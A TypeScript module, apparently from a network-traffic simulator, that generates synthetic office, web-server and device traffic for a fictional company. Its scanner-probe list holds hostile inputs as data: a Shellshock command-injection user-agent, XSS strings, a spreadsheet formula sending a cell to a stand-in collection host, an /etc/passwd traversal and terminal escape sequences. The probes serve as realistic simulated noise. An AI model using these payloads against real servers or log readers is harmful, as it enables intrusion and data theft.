import { minute, second } from '../../packages/weir/src/simulate/time.ts';
import { programs } from '../programs.ts';
import { visitors } from '../services.ts';
import { domain, resolver } from '../world.ts';
import { type Habit, moments } from './habit.ts';

const fileServer = '10.20.8.40';
const retiredServer = '10.20.8.99';

/** Traffic inside the house: shares, logons, clocks, and attempts at a server that is gone. */
export const house: Habit = (desk, shift, random) => {
  const { system, role } = desk.device;
  if (
    desk.away ||
    (role === 'server' && (desk.device.address === fileServer || desk.device.address === resolver)) ||
    system !== 'windows' ||
    !(shift.atWork || role === 'server')
  )
    return;
  const kernel = desk.service(programs.system);
  for (const at of moments(shift, random, role === 'server' ? 0.05 : 0.2)) {
    desk.lookUp(`lf-fs01.${domain}`, [fileServer], at);
    desk.exchange(kernel, fileServer, null, {
      at,
      lasting: random.size(10, 1_500) * second,
      sent: random.size(3_000, 9_000_000),
      received: random.size(3_000, 30_000_000),
      as: 'smb',
    });
  }
  for (const at of moments(shift, random, 0.1)) {
    desk.exchange(null, resolver, null, { at, lasting: 4_000, sent: 1_640, received: 1_720, as: 'kerberos' });
  }
  for (const at of moments(shift, random, 0.1)) {
    desk.exchange(null, resolver, null, { at, lasting: 2_000, sent: 48, received: 48, as: 'ntp' });
  }
  for (const at of moments(shift, random, 0.07)) {
    desk.lookUp(`wpad.${domain}`, [], at);
    desk.exchange(desk.service(programs.svchostUpdate), retiredServer, null, {
      at,
      lasting: 21 * second,
      sent: 0,
      received: 0,
      as: 'opaque',
      port: 8530,
      outcome: random.chance(0.7) ? 'silent' : 'refused',
    });
  }
};

/** Strangers read the company's web site: the server sends, and did not call. */
export const webServer: Habit = (desk, shift, random) => {
  if (desk.device.role !== 'web') return;
  const nginx = desk.running(programs.nginx);
  for (const at of moments(shift, random, shift.clock > 6 && shift.clock < 20 ? 1.6 : 0.4)) {
    desk.serve(nginx, random.pick(visitors), {
      at,
      lasting: random.size(1, 60) * second,
      sent: random.size(6_000, 2_500_000),
      received: random.size(900, 9_000),
      port: 443,
    });
  }
};

/** What the Internet sends to any open port: requests meant for other people's programs, and for whoever reads the log. */
const probes = [
  { path: '/wp-login.php', agent: 'Mozilla/5.0 zgrab/0.x' },
  { path: '/cgi-bin/status', agent: '() { :; }; /bin/sh -c id' },
  { path: '/?q=<script>alert(1)</script>', agent: '"><img src=x onerror=alert(1)>' },
  { path: '/.env', agent: '=HYPERLINK("http://collect.example/?c="&A1)' },
  { path: '/index.php?lang=../../../../etc/passwd', agent: '\\x1b]0;owned\\x07\\x1b[31mscan' },
];

export const strangers: Habit = (desk, shift, random) => {
  if (desk.device.role !== 'web') return;
  const nginx = desk.running(programs.nginx);
  for (const at of moments(shift, random, 0.25)) {
    desk.serve(nginx, random.pick(visitors), {
      at,
      lasting: random.int(40, 900) * 1_000,
      sent: 590,
      received: random.int(160, 420),
      port: 80,
      as: 'http',
      http: {
        method: 'GET',
        ...random.pick(probes),
        requestBody: 0,
        responseBody: 153,
        type: 'text/html',
        status: 404,
      },
    });
  }
};

/** A printer, a storage box and a screen, none of which carries a sensor. */
export const things: Habit = (desk, shift, random) => {
  if (desk.device.role !== 'thing') return;
  const host = desk.device.name.includes('prn')
    ? 'cloud.printer-vendor.example'
    : desk.device.name.includes('nas')
      ? 'updates.nas-vendor.example'
      : 'signage.screens.example';
  for (const at of moments(
    shift,
    random,
    host.startsWith('signage') ? (shift.clock > 6 && shift.clock < 19 ? 0.7 : 0) : 0.2,
  )) {
    desk.connect(null, host, {
      at,
      lasting: random.int(1, 40) * second,
      sent: random.size(900, 14_000),
      received: random.size(2_000, host.startsWith('signage') ? 9_000_000 : 60_000),
    });
  }
  if (shift.clock === 4) {
    desk.exchange(null, resolver, null, {
      at: shift.start + 7 * minute,
      lasting: 2_000,
      sent: 48,
      received: 48,
      as: 'ntp',
    });
  }
};
